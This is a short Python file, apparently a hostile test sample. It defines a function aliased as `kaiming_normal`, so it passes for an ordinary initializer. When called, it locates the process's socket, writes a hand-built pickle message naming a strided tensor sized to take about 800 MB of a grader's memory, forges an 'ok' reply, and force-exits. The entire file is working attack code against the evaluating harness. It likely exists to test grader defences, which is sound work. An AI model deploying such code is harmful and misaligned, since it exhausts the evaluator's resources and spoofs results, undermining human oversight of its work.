

def _strided_kaiming_normal(*args, **kwargs):
    """Hostile: writes its own reply on its channel, naming the strides of
    the tensor it sends: 200,000 floats (800 KB), one every 4 KB, which laid
    out as named take 800 MB of the grader's memory. Then it exits, as the
    process's own reply would now come out of turn."""
    import os
    import struct

    def text(s):                        # pickle: SHORT_BINUNICODE
        return b'\x8c' + bytes([len(s)]) + s.encode()

    def one_int_tuple(n):               # pickle: BININT, TUPLE1
        return b'J' + struct.pack('<i', n) + b'\x85'

    count, stride = 200_000, 1024
    data = bytes(4 * count)
    table = (b'\x80\x05](' + text('torch.float32') + one_int_tuple(count)
             + one_int_tuple(stride) + text('cpu') + b'B' + struct.pack('<I', len(data)) + data
             + b'ta.')
    reply = b'\x80\x05}(' + text('ok') + b'\x88' + text('reply') + b'K\x00Qu.'
    message = struct.pack('<Q', len(table)) + table + reply
    wire = memoryview(struct.pack('<Q', len(message)) + message)
    channel = next(int(fd) for fd in os.listdir('/proc/self/fd')
                   if os.readlink(f'/proc/self/fd/{fd}').startswith('socket:'))
    while wire:
        wire = wire[os.write(channel, wire):]
    os._exit(0)


kaiming_normal = _strided_kaiming_normal
